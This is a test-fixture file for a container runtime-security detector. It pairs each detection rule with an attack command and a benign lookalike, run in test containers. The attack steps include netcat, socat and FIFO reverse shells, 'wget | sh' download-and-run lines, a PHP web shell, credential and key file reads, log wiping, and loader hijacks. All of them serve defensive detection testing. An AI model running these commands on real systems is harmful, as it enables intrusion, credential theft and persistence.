/**
 * Each built-in rule's attack and a benign neighbour using the same tools, as steps run in real
 * containers: test/rules/attacks.test.ts checks every attack alerts and no neighbour does;
 * `npm run bench -- rules` times attack → alert per rule. The attacks come from busybox and the
 * image's eunomia-attack tool (test/attack/eunomia-attack.c).
 */
import { writeFileSync } from 'node:fs';
import { TEST_IMAGE, dockerAsync, uniqueName } from '../docker.js';
import { knownSyscalls } from '../../src/seccomp/read.js';

/** A command: `docker exec` (with a terminal if `tty`) in the case's container, or a new container from `docker run` flags (running `cmd`, default `true`). */
export type Step = { exec: string[]; tty?: boolean } | { run: string[]; cmd?: string[] };
/** seccomp_profile_violation's profile: every x86-64 syscall but unshare, in log mode. */
export const SECCOMP_LOG_PROFILE = `/tmp/eunomia-test-seccomp-log-${process.pid}.json`;

const sh = (script: string): Step => ({ exec: ['sh', '-c', `${script}; true`] });
const x = (...args: string[]): Step => ({ exec: args });

/**
 * A 129-byte static ELF that exits 0 (x86-64; arm64 on arm64), in base64: a payload small
 * enough to carry on a command line and decode at run time, as droppers do.
 */
function tinyElf(): string {
  const code = Buffer.from(process.arch === 'arm64' ? '000080d2a80b80d2010000d4' : 'b83c00000031ff0f05', 'hex'); // exit(0)
  const b = Buffer.alloc(120 + code.length); // ELF header (64) + one program header (56) + code
  const base = 0x400000n;
  Buffer.from('7f454c46020101', 'hex').copy(b, 0); // ELF, 64-bit, little-endian, version 1
  b.writeUInt16LE(2, 16); // ET_EXEC
  b.writeUInt16LE(process.arch === 'arm64' ? 183 : 62, 18);
  b.writeUInt32LE(1, 20);
  b.writeBigUInt64LE(base + 120n, 24); // entry: the code
  b.writeBigUInt64LE(64n, 32); // program headers right after this header
  b.writeUInt16LE(64, 52);
  b.writeUInt16LE(56, 54);
  b.writeUInt16LE(1, 56);
  b.writeUInt32LE(1, 64); // PT_LOAD the whole file, R+X
  b.writeUInt32LE(5, 68);
  b.writeBigUInt64LE(base, 80);
  b.writeBigUInt64LE(base, 88);
  b.writeBigUInt64LE(BigInt(b.length), 96);
  b.writeBigUInt64LE(BigInt(b.length), 104);
  b.writeBigUInt64LE(0x1000n, 112);
  code.copy(b, 120);
  return b.toString('base64');
}

/** rule → [attack, benign neighbour]. */
export const CASES: Record<string, [Step, Step]> = {
  insert_bpf: [x('eunomia-attack', 'bpf-load'), x('cat', '/proc/sys/kernel/unprivileged_bpf_disabled')],
  anti_debugging: [x('eunomia-attack', 'traceme'), x('cat', '/proc/self/status')],
  ptrace_attach: [x('eunomia-attack', 'ptrace-attach'), x('kill', '-0', '1')],
  shell_in_container: [{ exec: ['sh', '-c', 'echo interactive'], tty: true }, x('sh', '-c', 'echo scripted')],
  sensitive_file_read: [x('cat', '/etc/shadow'), x('cat', '/etc/passwd')],
  write_below_etc: [sh('echo x > /etc/evil.conf'), sh('echo x > /tmp/ok.conf')],
  write_below_binary_dir: [x('cp', '/bin/busybox', '/usr/bin/evil'), x('cp', '/bin/busybox', '/tmp/bb')],
  release_agent_write: [sh('echo /x > /sys/fs/cgroup/release_agent'), sh('cat /sys/fs/cgroup/cgroup.procs > /dev/null')],
  // Also where the kernel has no module or kexec support (ENOSYS, no syscalls: tracepoint):
  // secsnoop then sees the attempt through raw_syscalls.
  kernel_module_load: [x('eunomia-attack', 'finit-module'), x('cat', '/proc/modules')],
  mount_in_container: [sh('mount -t tmpfs none /mnt'), x('mount')],
  namespace_change_in_container: [sh('unshare -n true'), x('ls', '/proc/self/ns')],
  memfd_exec: [x('eunomia-attack', 'memfd-exec'), x('eunomia-attack', 'memfd')],
  dev_shm_exec: [sh('cp /bin/busybox /dev/shm/bb && /dev/shm/bb true'), sh('cp /bin/busybox /dev/shm/bb && ls /dev/shm')],
  netcat_remote_exec: [
    sh('(echo exit | timeout 3 nc -l -p 4446 &); sleep 0.3; nc 127.0.0.1 4446 -e /bin/sh; socat TCP:127.0.0.1:4446 EXEC:/bin/sh'),
    sh('(timeout 2 nc -l -p 4447 > /dev/null &); sleep 0.3; echo hi | timeout 1 nc 127.0.0.1 4447; socat --version'),
  ],
  package_manager_in_container: [x('dpkg', '-i', '/tmp/tool.deb'), x('dpkg', '-l')],
  // Containers under a log-mode profile that allows all but unshare, watched by a seccomplog
  // instance started with it (writeSeccompLogProfile): the call runs, and alerts.
  seccomp_profile_violation: [
    { run: ['--security-opt', `seccomp=${SECCOMP_LOG_PROFILE}`], cmd: ['sh', '-c', 'unshare -U true'] },
    { run: ['--security-opt', `seccomp=${SECCOMP_LOG_PROFILE}`], cmd: ['sh', '-c', 'ls / > /dev/null; cat /etc/hostname'] },
  ],
  network_tool_in_container: [x('nmap', '-sS', '10.0.0.0/24'), x('nmap', '--version')],
  runtime_socket_access: [x('eunomia-attack', 'unix-connect', '/var/run/docker.sock'), x('eunomia-attack', 'unix-connect', '/tmp/app.sock')],
  // 3 s: with 1 s, one CI run (a loaded machine) got no alert, most likely nc ended before its
  // connect(); an attempt cut off before the SYN leaves no event to see.
  cloud_metadata_contacted: [x('timeout', '3', 'nc', '169.254.169.254', '80'), x('timeout', '1', 'nc', '127.0.0.1', '80')],
  // With no network: one connect with no route (fails before any packet: secsnoop) and one
  // refused (its SYN answered by a reset: tcpconnect). Benign: the same to an ordinary port.
  miner_pool_port: [
    { run: ['--network', 'none'], cmd: ['sh', '-c', 'nc 10.255.255.1 3333; timeout 1 nc 127.0.0.1 3333; true'] },
    { run: ['--network', 'none'], cmd: ['sh', '-c', 'nc 10.255.255.1 8080; timeout 1 nc 127.0.0.1 8080; true'] },
  ],
  proc_mem_access: [sh('head -c 1 /proc/1/mem > /dev/null'), x('cat', '/proc/1/status')],
  runtime_binary_overwrite: [sh(': >> /proc/self/exe'), sh('cat /proc/self/exe > /dev/null')],
  hardening_sysctl_write: [sh('echo 0 > /proc/sys/kernel/randomize_va_space'), x('cat', '/proc/sys/kernel/randomize_va_space')],
  kubelet_or_etcd_contacted: [x('timeout', '1', 'nc', '127.0.0.1', '10250'), x('timeout', '1', 'nc', '127.0.0.1', '10251')],
  block_device_access: [x('dd', 'if=/dev/vda', 'of=/dev/null', 'count=1'), x('ls', '-l', '/dev')],
  write_below_lib_dir: [sh('mkdir -p /usr/lib/security && echo x > /usr/lib/security/pam_evil.so'), sh('echo x > /tmp/libx.so')],
  // A shell renamed as the web server (/proc/self/comm) runs a command the way a web shell does;
  // the benign server runs a script by its path, as a CGI.
  server_spawned_shell: [sh("echo -n httpd > /proc/self/comm; sh -c 'id > /dev/null'"), sh('echo -n httpd > /proc/self/comm; echo id > /tmp/status.cgi; sh /tmp/status.cgi')],
  miner_stratum_url: [x('/bin/sleep', '0', '--url=stratum+tcp://pool.example:3333'), x('/bin/sleep', '0')],
  known_miner_run: [sh('cp /bin/busybox /root/xmrig && /root/xmrig --version'), x('cat', '/proc/cpuinfo')],
  ssh_from_container: [x('timeout', '1', 'nc', '127.0.0.1', '22'), x('timeout', '1', 'nc', '127.0.0.1', '2222')],
  tor_port_contacted: [x('timeout', '1', 'nc', '127.0.0.1', '9050'), x('timeout', '1', 'nc', '127.0.0.1', '9080')],
  input_device_read: [x('cat', '/dev/input/event0'), x('cat', '/dev/urandom', '-n')],
  kvm_in_container: [x('cat', '/dev/kvm'), x('cat', '/dev/zero', '-n')],
  library_from_writable_dir: [sh('cp /bin/busybox /tmp/libx.so && cat /tmp/libx.so > /dev/null'), sh('cp /bin/busybox /tmp/data.bin && cat /tmp/data.bin > /dev/null')],
  fake_kernel_thread_name: [sh('exec -a "[kworker/0:1]" /bin/sleep 0'), sh('exec -a worker /bin/sleep 0')],
  password_cracker_run: [sh('cp /bin/busybox /root/john && /root/john --test'), x('cat', '/etc/passwd')],
  tunnel_tool_in_container: [sh('cp /bin/busybox /root/chisel && /root/chisel client 10.255.255.1:8080 R:2222:localhost:22'), x('wget', '-q', '-T', '1', '-O', '-', 'http://10.255.255.1/releases')],
  shell_history_read: [x('cat', '/root/.ash_history'), sh('echo ls >> /root/.ash_history')],
  firmware_write: [sh('echo x > /sys/firmware/efi/efivars/Boot0000-8be4df61-93ca-11d2-aa0d-00e098032b8c'), x('ls', '/sys/firmware')],
  python_startup_hook: [sh('mkdir -p /root/.local/lib/python3.11/site-packages && echo "import os" > /root/.local/lib/python3.11/site-packages/evil.pth'), sh('echo "import os" > /tmp/evil.pth')],
  mail_forward_written: [sh('echo attacker@example.com > /root/.forward'), x('cat', '/root/.profile')],
  shell_history_cleared: [sh(': > /root/.ash_history'), sh('echo ls >> /root/.ash_history')],
  // By path: busybox sh runs a bare `find` in a fork of itself, with no exec to see.
  ssh_key_search: [sh('/bin/find /root -name id_rsa; /bin/find / -xdev -name credentials -path "*/.aws/*"'), x('find', '/etc', '-name', 'hostname')],
  ld_preload_tamper: [sh('echo /tmp/x.so > /etc/ld.so.preload'), sh('cat /etc/ld.so.preload')],
  // The attempt is the signal: no library needs to exist (busybox is static and ignores them).
  // `true` alone would be busybox sh's builtin, with no exec to see.
  ld_preload_env: [sh('LD_PRELOAD=/tmp/x.so /bin/true; env LD_LIBRARY_PATH=/tmp/lib ls /'), sh('env LD_LIBRARY_PATH=/usr/lib ls /; LD_PRELOAD=libjemalloc.so.2 /bin/true; /bin/true')],
  private_key_read: [x('cat', '/root/.ssh/id_ed25519'), x('cat', '/root/.ssh/id_ed25519.pub')],
  // Both containers have a tmpfs /tmp (see `before`): a binary copied into the overlayfs upper
  // layer, and a payload decoded at run time onto the tmpfs; benign: image binaries run, and
  // files written and processed in /tmp.
  container_drift: [
    sh(`cp /bin/busybox /root/dropped && /root/dropped true; echo ${tinyElf()} | base64 -d > /tmp/p; chmod +x /tmp/p; /tmp/p`),
    sh('echo aGkK | base64 -d > /tmp/data; sort /tmp/data > /tmp/sorted; /bin/busybox true'),
  ],
  packet_socket_in_container: [x('eunomia-attack', 'packet-socket'), x('ping', '-c', '1', '127.0.0.1')],
  reverse_shell: [x('eunomia-attack', 'revshell'), x('eunomia-attack', 'unixshell')],
  // Both classic shapes, each against its own listener in the container that sends "exit"; the
  // shell's stdio are pipes, the FIFO is on nc's stdout (and on the second shell's stdin).
  // Benign: a FIFO read by cat, and a shell reading data (not its commands: that is
  // shell_script_from_pipe) from an ordinary pipe.
  reverse_shell_fifo: [
    sh(
      '(echo exit | timeout 3 nc -l -p 4450 > /dev/null &); (echo exit | timeout 3 nc -l -p 4451 > /dev/null &); sleep 0.3; rm -f /tmp/f /tmp/g; mkfifo /tmp/f /tmp/g; ' +
        '(cat /tmp/f | sh -i 2>&1 | timeout 2 nc 127.0.0.1 4450 > /tmp/f &); sh -i < /tmp/g 2>&1 | timeout 2 nc 127.0.0.1 4451 > /tmp/g; wait',
    ),
    sh("rm -f /tmp/q; mkfifo /tmp/q; (echo hi > /tmp/q &); cat < /tmp/q; echo id | sh -c 'read c; echo $c'"),
  ],
  stdio_socket_redirect: [x('eunomia-attack', 'revshell'), x('eunomia-attack', 'unixshell')],
  privileged_container_started: [{ run: ['--cap-add', 'SYS_ADMIN'] }, { run: [] }],
  excessively_capable_container: [{ run: ['--cap-add', 'SYS_PTRACE'] }, { run: ['--cap-drop', 'NET_RAW'] }],
  sensitive_host_mount: [{ run: ['-v', '/etc:/host-etc:ro'] }, { run: ['-v', `/tmp/eunomia-data-${process.pid}:/data`] }],
  setuid_bit_set: [sh('touch /tmp/s && chmod u+s /tmp/s'), sh('touch /tmp/s && chmod 755 /tmp/s')],
  userfaultfd_in_container: [x('eunomia-attack', 'userfaultfd'), x('eunomia-attack', 'eventfd')],
  kexec_load: [x('eunomia-attack', 'kexec'), x('cat', '/proc/sys/kernel/kexec_load_disabled')],
  user_management_in_container: [x('passwd', '-d', 'root'), x('passwd', '--help')],
  // 10.255.255.1: an address outside the container and this host, unreachable (the attempt is the signal)
  remote_copy_tool_in_container: [x('wget', '-q', '-T', '1', 'http://10.255.255.1/tool', '-O', '/tmp/tool'), x('wget', '-q', '-T', '1', '-O', '-', 'http://10.255.255.1/page')],
  shell_script_from_pipe: [sh('wget -q -T 1 -O - http://10.255.255.1/x.sh | sh'), sh('echo hi | sh -c cat')],
  cluster_admin_tool_in_container: [x('kubectl', 'get', 'secrets'), x('kubectl', '--version')],
  proc_environ_read: [x('cat', '/proc/1/environ'), x('cat', '/proc/self/environ')],
  kernel_hook_write: [sh('echo "|/tmp/x" > /proc/sys/kernel/core_pattern'), x('cat', '/proc/sys/kernel/core_pattern')],
  raw_memory_device_opened: [x('cat', '/dev/mem'), x('cat', '/dev/null')],
  log_cleared: [sh(': > /var/log/messages'), sh('echo x >> /var/log/messages')],
  // After log_cleared (which needs /var/log/messages); a live log is made, then everything deleted.
  // Benign: a rotation as a script does it.
  log_file_deleted: [
    sh('echo x >> /var/log/app.log; rm -rf /var/log/*'),
    sh('touch /var/log/app.log /var/log/app.log.2.gz; mv /var/log/app.log /var/log/app.log.1; rm /var/log/app.log.2.gz'),
  ],
  secure_delete_tool: [sh('echo x >> /var/log/messages; shred -u /var/log/messages'), sh('echo x > /tmp/x; rm /tmp/x; shred --help')],
  sensitive_file_link: [sh('ln -s /etc/shadow /tmp/s; ln /etc/shadow /root/h'), sh('ln -s /etc/hostname /tmp/h')],
  shell_config_modified: [sh('echo "wget -qO- x | sh" >> /root/.profile'), x('cat', '/root/.profile')],
  ssh_authorized_keys_modified: [sh('echo "ssh-ed25519 AAAA attacker" >> /root/.ssh/authorized_keys'), x('cat', '/root/.ssh/id_ed25519.pub')],
  cron_modified: [sh('echo "* * * * * /tmp/x" > /var/spool/cron/crontabs/root; mkdir -p /var/spool/at && echo /tmp/x > /var/spool/at/a0001'), x('crontab', '-l')],
  path_traversal_read: [x('cat', '/tmp/../../etc/passwd'), x('cat', '/etc/passwd')],
  credential_search: [x('grep', '-r', 'password', '/etc'), x('grep', 'root', '/etc/passwd')],
  pam_config_modified: [sh('echo "auth sufficient pam_permit.so" > /etc/pam.d/other'), x('ls', '/etc/pam.d')],
  dev_file_created: [sh('echo x > /dev/.hidden'), sh('echo x > /dev/null')],
  systemd_unit_written: [sh('mkdir -p /etc/systemd/system && echo "[Service]" > /etc/systemd/system/evil.service'), sh('echo "[Service]" > /tmp/evil.service')],
  udev_rule_written: [sh('mkdir -p /etc/udev/rules.d && echo "RUN+=\"/tmp/x\"" > /etc/udev/rules.d/99-evil.rules'), sh('echo "RUN+=\"/tmp/x\"" > /tmp/99-evil.rules')],
  root_certificate_added: [sh('mkdir -p /usr/local/share/ca-certificates && echo x > /usr/local/share/ca-certificates/evil.crt'), sh('echo x > /tmp/evil.crt')],
  package_repo_modified: [sh('mkdir -p /etc/apt/sources.list.d && echo "deb http://10.255.255.1/ x main" > /etc/apt/sources.list.d/evil.list'), sh('cat /etc/apt/sources.list.d/*.list > /dev/null')],
  rc_script_modified: [sh('echo "/tmp/x &" >> /etc/rc.local'), x('cat', '/etc/rc.local')],
  logging_config_modified: [sh('mkdir -p /etc/rsyslog.d && echo "*.* stop" > /etc/rsyslog.d/00-drop.conf'), x('cat', '/etc/rsyslog.conf')],
  mail_transport_config_modified: [sh('mkdir -p /etc/postfix && echo "always_bcc = x@example.com" >> /etc/postfix/main.cf'), x('cat', '/etc/postfix/main.cf')],
  ld_so_conf_modified: [sh('mkdir -p /etc/ld.so.conf.d && echo /tmp > /etc/ld.so.conf.d/evil.conf'), x('cat', '/etc/ld.so.conf')],
  pam_module_written: [sh('mkdir -p /lib/security && echo x > /lib/security/pam_evil.so'), sh('echo x > /tmp/pam_notes.txt')],
  sudo_timestamp_modified: [sh('mkdir -p /run/sudo/ts && echo x > /run/sudo/ts/root'), x('ls', '/run')],
  package_db_modified: [sh('mkdir -p /var/lib/dpkg && echo "Package: evil" >> /var/lib/dpkg/status'), x('cat', '/var/lib/dpkg/status')],
  // SSSD's cache (in the image) and a Kerberos ticket cache (made by the attacker); benign: krb5.conf
  credential_cache_read: [sh('cat /var/lib/sss/db/cache_example.ldb; echo x > /tmp/krb5cc_0; cat /tmp/krb5cc_0'), sh('echo x > /tmp/krb5.conf; cat /tmp/krb5.conf')],
  tls_private_key_read: [x('cat', '/etc/ssl/private/server.key'), x('ls', '-l', '/etc/ssl/private')],
  credential_file_read: [x('cat', '/root/.aws/credentials'), x('ls', '-a', '/root/.aws')],
  service_account_token_read: [x('cat', '/var/run/secrets/kubernetes.io/serviceaccount/token'), x('cat', '/var/run/secrets/kubernetes.io/serviceaccount/namespace')],
  ssh_config_read: [x('cat', '/root/.ssh/known_hosts'), x('cat', '/root/.ssh/id_ed25519.pub')],
  web_root_written: [sh(`echo '<?php system($_GET["c"]); ?>' > /var/www/html/shell.php`), sh('mkdir -p /var/www/html/uploads && echo x > /var/www/html/uploads/a.png')],
  // /dev/sdz9 exists nowhere (dd makes a file in the container's own /dev): the attempt to open
  // a disk for writing is the signal. Benign: the same dd onto an image file.
  block_device_write: [x('dd', 'if=/dev/zero', 'of=/dev/sdz9', 'count=1'), x('dd', 'if=/dev/zero', 'of=/tmp/disk.img', 'count=1')],
  empty_argv_exec: [x('eunomia-attack', 'exec-noargv', '/usr/bin/pkexec'), x('pkexec', '--version')],
  sudo_heap_overflow_args: [x('sudoedit', '-s', '\\', 'AAAAAAAAAAAAAAAA'), x('sudoedit', '-s', '/etc/motd')],
  audit_disabled: [x('auditctl', '-D'), x('auditctl', '-l')],
  firewall_flushed: [x('iptables', '-F'), x('iptables', '-L', '-n')],
  vnc_from_container: [x('timeout', '1', 'nc', '127.0.0.1', '5901'), x('timeout', '1', 'nc', '127.0.0.1', '5000')],
  k8s_api_server_contacted: [x('timeout', '1', 'nc', '127.0.0.1', '6443'), x('timeout', '1', 'nc', '127.0.0.1', '6444')],
  remote_access_service_in_container: [x('timeout', '1', 'nc', '-l', '-p', '2222'), x('timeout', '1', 'nc', '-l', '-p', '8022')],
  dhcp_server_in_container: [x('eunomia-attack', 'udp-bind', '67'), x('eunomia-attack', 'udp-bind', '6767')],
  // Refused without CAP_SYS_ADMIN: the attempt is the signal.
  proc_pid_mount: [sh('mount --bind /tmp /proc/1'), x('cat', '/proc/1/status')],
  // The agent's socket is made first (unix-connect listens on a path that does not exist yet).
  ssh_agent_hijack: [sh('mkdir -p /tmp/ssh-XXXXa1b2 && eunomia-attack unix-connect /tmp/ssh-XXXXa1b2/agent.42'), x('eunomia-attack', 'unix-connect', '/tmp/ssh-notes.sock')],
  // An applet the other cases do not use is moved aside.
  binary_dir_modified: [sh('mv /bin/watch /bin/.watch; mkdir /usr/bin/.cache'), sh('echo x > /tmp/a; mv /tmp/a /tmp/b; mkdir /tmp/d')],
  shell_history_deleted: [sh('rm -f /root/.ash_history; ln -s /dev/null /root/.ash_history'), sh('echo x > /tmp/h; rm /tmp/h; ln -s /dev/null /tmp/out')],
  timestomp: [x('touch', '-r', '/bin/busybox', '/etc/passwd'), x('touch', '-r', '/bin/busybox', '/tmp/x.conf')],
  device_node_created_in_container: [x('mknod', '/tmp/sda', 'b', '8', '0'), x('mknod', '/tmp/fifo', 'p')],
  socket_filter_attached: [x('eunomia-attack', 'socket-filter'), x('eunomia-attack', 'sockopt')],
  // Not /tmp/f: reverse_shell_fifo left a FIFO there, which a write would wait on forever.
  xattr_payload_written: [sh('echo x > /tmp/xattr.txt; eunomia-attack setxattr /tmp/xattr.txt user.payload'), sh('echo x > /tmp/xattr.txt; eunomia-attack setxattr /tmp/xattr.txt system.posix_acl_access')],
  // Wrong magic numbers (and no CAP_SYS_BOOT): the kernel refuses it, the attempt is the signal.
  reboot_attempted: [x('eunomia-attack', 'reboot'), x('cat', '/proc/uptime')],
  // CVE-2023-4911's shape (a tunable assigned to another); benign: an ordinary tunable.
  glibc_tunables_overflow: [sh('GLIBC_TUNABLES=glibc.malloc.mxfast=glibc.malloc.mxfast=AAAAAAAA /bin/true'), sh('GLIBC_TUNABLES=glibc.malloc.arena_max=2:glibc.malloc.tcache_count=0 /bin/true')],
  writable_dir_in_path: [sh('mkdir -p /tmp/bin && env PATH=/tmp/bin:/usr/bin:/bin ls /'), sh('env PATH=/usr/local/bin:/usr/bin:/bin ls /')],
  // `docker exec` starts tar from outside the container, as `kubectl cp` does; benign: a shell in
  // the container archiving to a file.
  container_files_copied_out: [x('tar', 'cf', '-', '/var/www'), sh('/bin/tar cf /tmp/www.tar /var/www')],
  // An install script (a shell named npm) running a downloader, by its path so that it is exec'd.
  network_tool_from_package_install: [
    sh("echo -n npm > /proc/self/comm; sh -c '/bin/wget -q -T 1 -O /tmp/stage2 http://10.255.255.1/stage2; true'"),
    sh("echo -n npm > /proc/self/comm; sh -c '/bin/ls /tmp > /dev/null; true'"),
  ],
};

/**
 * What a rule's alerts must also say, where its attack tries more than one form (each regular
 * expression must match one of the rule's alerts from the attacker).
 */
export const FORMS: Record<string, RegExp[]> = {
  netcat_remote_exec: [/^nc .*-e/, /^socat .*EXEC:/],
  ssh_key_search: [/id_rsa/, /credentials/],
  cron_modified: [/\/var\/spool\/cron\/crontabs\/root/, /\/var\/spool\/at\//],
  credential_cache_read: [/\/var\/lib\/sss\/db\//, /\/tmp\/krb5cc_0/],
  binary_dir_modified: [/rename.* \/bin\/watch -> \/bin\/\.watch /, /mkdir.* \/usr\/bin\/\.cache /],
  shell_history_deleted: [/unlink.* \/root\/\.ash_history /, /symlink.* \/root\/\.ash_history -> \/dev\/null /],
};

/**
 * `docker run` flags of the attacker and neighbour containers. No seccomp filter, as Kubernetes
 * runs pods unless told otherwise: a call the filter refuses never reaches the tracepoints
 * (Docker's default profile refuses bpf, mount, unshare, setns, userfaultfd …). /dev/shm
 * executable (Docker mounts it noexec), /tmp an executable tmpfs (as `--tmpfs /tmp` and
 * memory-backed volumes make it). The attacker also gets the host's Docker socket to reach.
 */
/** Writes SECCOMP_LOG_PROFILE: before a case's container runs with it (and a seccomplog instance reads it). */
export function writeSeccompLogProfile(): string {
  const names = knownSyscalls().filter((n) => n !== 'unshare');
  writeFileSync(SECCOMP_LOG_PROFILE, JSON.stringify({ defaultAction: 'SCMP_ACT_LOG', architectures: ['SCMP_ARCH_X86_64'], syscalls: [{ names, action: 'SCMP_ACT_ALLOW' }] }));
  return SECCOMP_LOG_PROFILE;
}

export const CONTAINER_FLAGS = ['--security-opt', 'seccomp=unconfined', '--tmpfs', '/dev/shm:rw,exec,size=16m', '--tmpfs', '/tmp:rw,exec,size=16m'];
export const ATTACKER_FLAGS = [...CONTAINER_FLAGS, '-v', '/var/run/docker.sock:/var/run/docker.sock'];

/**
 * Runs a step: `docker exec` in `container` (attacks may fail: the attempt is what counts), or a
 * new container (its name added to `made`). Returns the container the alert must name.
 */
export async function perform(step: Step, container: string, label: string, made: string[]): Promise<string> {
  if ('exec' in step) {
    await dockerAsync('exec', ...(step.tty ? ['-t'] : []), container, ...step.exec).catch(() => {});
    return container;
  }
  const name = uniqueName(label);
  made.push(name);
  await dockerAsync('run', '--name', name, ...step.run, TEST_IMAGE, ...(step.cmd ?? ['true']));
  return name;
}
